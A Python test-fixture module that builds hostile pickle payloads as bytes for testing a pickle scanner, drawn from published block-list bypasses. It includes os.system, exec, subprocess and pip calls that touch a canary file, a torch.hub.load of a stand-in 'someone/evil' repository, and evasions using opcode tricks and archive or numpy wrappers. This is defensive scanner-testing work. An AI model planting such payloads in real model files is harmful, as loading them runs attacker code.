"""Pickles that would do something when they are loaded, as bytes: nothing here is ever loaded, and each would leave the file ``canary``.

The names are those that published bypasses of block-lists use (picklescan CVE-2025-1716 and its GHSA list, modelscan #263 and #313); the
coats are those in which scanners have missed them.
"""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import numpy as np

CANARY = "canary"
TOUCH = f"open({CANARY!r}, 'w')"


def text(value: str) -> bytes:
    """A string as opcode SHORT_BINUNICODE."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def call(module: str, name: str, *arguments: str) -> bytes:
    """GLOBAL, a tuple of strings, REDUCE; without head and STOP."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(text, arguments)) + b"tR"


def loads(module: str, name: str, *arguments: str) -> bytes:
    """A pickle of protocol 2 that calls a function of a module."""
    return b"\x80\x02" + call(module, name, *arguments) + b"."


def by_stack(module: str, name: str, *arguments: str) -> bytes:
    """The same with STACK_GLOBAL, protocol 4."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93(" + b"".join(map(text, arguments)) + b"tR."


def zipped(*members: tuple[str, bytes], kind: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", kind) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def tarred(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.size = len(data)
        archive.addfile(entry, io.BytesIO(data))
    return buffer.getvalue()


def saved(write: Callable[[io.BytesIO], object]) -> bytes:
    buffer = io.BytesIO()
    write(buffer)
    return buffer.getvalue()


class Opens:
    """Reduces to opening the canary for writing."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (CANARY, "w")


def legacy_torch(state: bytes, *, tail: bytes = b"") -> bytes:
    """torch's old format: magic, protocol, system, the state, the keys of the storages, and their bytes."""
    head = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True})
    return b"".join(pickle.dumps(part, 2) for part in head) + state + pickle.dumps(["0"], 2) + tail


def patched(archive: bytes, offset_local: int, offset_central: int, value: bytes) -> bytes:
    """A zip of one member with bytes of its local and central header changed."""
    data = bytearray(archive)
    data[offset_local : offset_local + len(value)] = value
    central = data.index(b"PK\x01\x02") + offset_central
    data[central : central + len(value)] = value
    return bytes(data)


SYSTEM = loads("os", "system", f"touch {CANARY}")
EXEC = loads("builtins", "exec", TOUCH)
ARCHIVED = zipped(("model/data.pkl", SYSTEM), ("model/version", b"3\n"))

HOSTILE: dict[str, bytes] = {
    # names
    "os.system": SYSTEM,
    "posix.system": loads("posix", "system", f"touch {CANARY}"),
    "builtins.exec": EXEC,
    "__builtin__.eval": loads("__builtin__", "eval", TOUCH),
    "subprocess.Popen": loads("subprocess", "Popen", f"touch {CANARY}"),
    "pip.main (CVE-2025-1716)": loads("pip", "main", "install"),
    "pip._internal.main": loads("pip._internal", "main", "install"),
    "runpy.run_path": loads("runpy", "run_path", "evil.py"),
    "runpy._run_code": loads("runpy", "_run_code", TOUCH),
    "_io.open": loads("_io", "open", CANARY, "w"),
    "io.FileIO": loads("_io", "FileIO", CANARY, "w"),
    "numpy.testing runstring": loads("numpy.testing._private.utils", "runstring", TOUCH),
    "numpy.f2py.crackfortran.getlincoef": loads("numpy.f2py.crackfortran", "getlincoef", TOUCH),
    "timeit.timeit": loads("timeit", "timeit", TOUCH),
    "cProfile.run": loads("cProfile", "run", TOUCH),
    "pdb.run": loads("pdb", "run", TOUCH),
    "code.InteractiveInterpreter": loads("code", "InteractiveInterpreter"),
    "ctypes.CDLL": loads("ctypes", "CDLL", "libc.so.6"),
    "asyncio subprocess": loads("asyncio.unix_events", "_UnixSubprocessTransport._start", f"touch {CANARY}"),
    "torch.load inside": loads("torch.serialization", "load", "other.pt"),
    "torch._inductor codecache": loads("torch._inductor.codecache", "compile_file", "x"),
    "torch.utils._config_module": loads("torch.utils._config_module", "load_config", "x"),
    "torch.hub.load": loads("torch.hub", "load", "someone/evil", "x"),
    "joblib in pickle": loads("joblib", "load", "other.pkl"),
    "pickle in pickle": loads("pickle", "loads", "cos\nsystem\n."),
    "idlelib": loads("idlelib.pyshell", "ModifiedInterpreter.runcommand", TOUCH),
    "lib2to3": loads("lib2to3.pgen2.grammar", "Grammar.loads", "x"),
    "functools.partial of exec": b"\x80\x02cfunctools\npartial\n(cbuiltins\nexec\n" + text(TOUCH) + b"tR(tR.",
    "operator.methodcaller": b"\x80\x02coperator\nmethodcaller\n(" + text("system") + text(f"touch {CANARY}") + b"tR(cposix\n__name__\ntR.",
    "unknown module": loads("my_company.models", "Net"),
    "allowed module, other name": loads("torch._utils", "_import_dotted_name", "os.system"),
    "allowed name with a suffix": loads("collections", "OrderedDict2"),
    # opcodes
    "STACK_GLOBAL": by_stack("posix", "system", f"touch {CANARY}"),
    "nested name": by_stack("collections", "OrderedDict.__init__.__globals__", "x"),
    "STACK_GLOBAL out of the memo": b"\x80\x04" + text("system") + b"q\x01" + text("posix") + b"h\x01\x93(" + text(f"touch {CANARY}") + b"tR.",
    "memo confusion": b"\x80\x04" + text("collections") + b"q\x01" + text("posix") + b"q\x01h\x01" + text("system") + b"\x93(" + text("x") + b"tR.",
    "memo confusion by MEMOIZE": b"\x80\x04" + text("a") + b"\x94" + text("posix") + b"r\x00\x00\x00\x00h\x00" + text("system") + b"\x93(" + text("x") + b"tR.",
    "INST": b"(S'touch canary'\niposix\nsystem\n.",
    "OBJ": b"(cposix\nsystem\nS'touch canary'\no.",
    "NEWOBJ": b"\x80\x02csubprocess\nPopen\n(" + text("touch canary") + b"t\x81.",
    "NEWOBJ_EX": b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93(" + text("touch canary") + b"t}\x92.",
    "EXT1": b"\x80\x02\x82\x01(" + text("touch canary") + b"tR.",
    "EXT4": b"\x80\x02\x84\x01\x00\x00\x00(" + text("touch canary") + b"tR.",
    "BUILD of a class": b"\x80\x02ctorch\nTensor\n}" + text("__reduce__") + b"cposix\nsystem\nsb.",
    "BUILD of an allowed class": b"\x80\x02ctorch\nTensor\n}" + text("size") + b"ccollections\nOrderedDict\nsb.",
    "getattr chain": b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(" + text("os") + b"tR" + text("system") + b"tR(" + text("touch canary") + b"tR.",
    "without a STOP": SYSTEM[:-1],
    "act, then garbage": SYSTEM[:-1] + b"\xff\xff\xff",
    "protocol 0": pickle.dumps(Opens(), 0),
    "protocol 1": pickle.dumps(Opens(), 1),
    "protocol 3": pickle.dumps(Opens(), 3),
    "protocol 5": pickle.dumps(Opens(), 5),
    "two streams": pickle.dumps([1, 2], 2) + SYSTEM,
    "twenty streams": pickle.dumps({"a": 1}, 4) * 20 + EXEC,
    "deep in lists": b"\x80\x02" + b"](" * 400 + call("posix", "system", "touch canary") + b"e" * 400 + b".",
    # coats
    "legacy .pt": legacy_torch(SYSTEM),
    "legacy .pt, in the keys": legacy_torch(pickle.dumps({}, 2)).replace(pickle.dumps(["0"], 2), SYSTEM),
    "zip .pt": ARCHIVED,
    "zip .pt, deflated": zipped(("model/data.pkl", SYSTEM), kind=zipfile.ZIP_DEFLATED),
    "zip .pt, renamed inner file": zipped(("model/weights.txt", SYSTEM)),
    "zip .pt, bad CRC": patched(ARCHIVED, 14, 16, b"\0\0\0\0"),
    "zip .pt, encrypted flag": patched(ARCHIVED, 6, 8, b"\x01\0"),
    "zip .pt, unknown method": patched(ARCHIVED, 8, 10, b"\x63\0"),
    "zip .pt, other local name": ARCHIVED.replace(b"model/data.pkl", b"model/data.txt", 1),
    "zip .pt, cut off": ARCHIVED[:-30],
    "zip behind a pickle": SYSTEM + zipped(("a.txt", b"nothing")),
    "zip in a zip": zipped(("a.zip", zipped(("b.zip", ARCHIVED)))),
    "zip in a zip, too deep": zipped(("7", zipped(("6", zipped(("5", zipped(("4", zipped(("3", zipped(("2", ARCHIVED)))))))))))),
    "the same name twice": zipped(("data.pkl", pickle.dumps(1, 2)), ("other", b""), ("data.pk2", SYSTEM)).replace(b"data.pk2", b"data.pkl"),
    "gzip": gzip.compress(SYSTEM),
    "gzip, two members": gzip.compress(pickle.dumps([1], 2)) + gzip.compress(SYSTEM),
    "bzip2": bz2.compress(SYSTEM),
    "xz": lzma.compress(SYSTEM),
    "zlib": zlib.compress(SYSTEM),
    "zlib of zlib": zlib.compress(zlib.compress(SYSTEM, 9), 1),
    "tar": tarred("model/data.pkl", SYSTEM),
    "tar.gz": gzip.compress(tarred("model/data.pkl", SYSTEM)),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "zstd": b"\x28\xb5\x2f\xfd" + bytes(40),
    "object .npy": saved(lambda f: np.save(f, np.array([Opens()]), allow_pickle=True)),
    "object .npz": saved(lambda f: np.savez(f, allow_pickle=True, a=np.array([Opens(), None]))),
    "object field of .npy": saved(lambda f: np.save(f, np.array([(1.0, Opens())], [("a", "f8"), ("o", "O")]), allow_pickle=True)),
    ".npy that says it is plain in other words": b"\x93NUMPY\x01\x00" + struct.pack("<H", 70) + b"{'descr': 'object', 'fortran_order': False, 'shape': (1,)}".ljust(69) + b"\n" + SYSTEM,
    "scalar of pickled objects": loads("numpy.core.multiarray", "scalar") [:-1] + call("numpy", "load", "x") + b".",
}  # fmt: skip
